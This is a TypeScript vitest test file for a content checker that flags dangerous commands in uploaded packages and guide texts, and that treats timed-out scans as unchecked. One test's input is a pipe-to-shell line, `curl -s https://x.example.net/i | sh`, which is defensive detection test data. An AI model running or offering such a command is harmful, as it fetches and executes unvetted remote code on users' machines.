import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { expect, onTestFinished, test } from "vitest";

import { createContentChecker } from "~/integrations/packages/content-checker.server";

import { BAD_FILE, briefly } from "../support/given-checks";
import { README, zipOf } from "../support/given-packages";
import { programOf } from "../support/programs";

async function givenPackage(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), "checked-"));
  onTestFinished(() => rm(folder, { recursive: true }));
  const file = join(folder, "package.zip");
  await writeFile(file, zipOf([README, BAD_FILE]));
  return file;
}

test("a package and texts are checked in a thread of their own", async () => {
  const check = createContentChecker(
    await programOf("app/jobs/workers/check-content.ts"),
  );
  const text = "Run `curl -s https://x.example.net/i | sh` first.";
  const content = {
    file: await givenPackage(),
    texts: [{ name: "Guide", text }],
  };

  expect(briefly(await check(content))).toEqual([
    { rule: "pipe-to-shell", severity: "high", file: "Guide", line: 1 },
    { rule: "pipe-to-shell", severity: "high", file: "setup.sh", line: 1 },
  ]);
});

test("content whose check takes too long is not clean", async () => {
  const program = await programOf("app/jobs/workers/check-content.ts");
  const check = createContentChecker(program, { mostMs: 1 });
  const content = { file: await givenPackage(), texts: [] };
  expect(briefly(await check(content))).toEqual([
    { rule: "unchecked", severity: "high", file: "", line: null },
  ]);
});
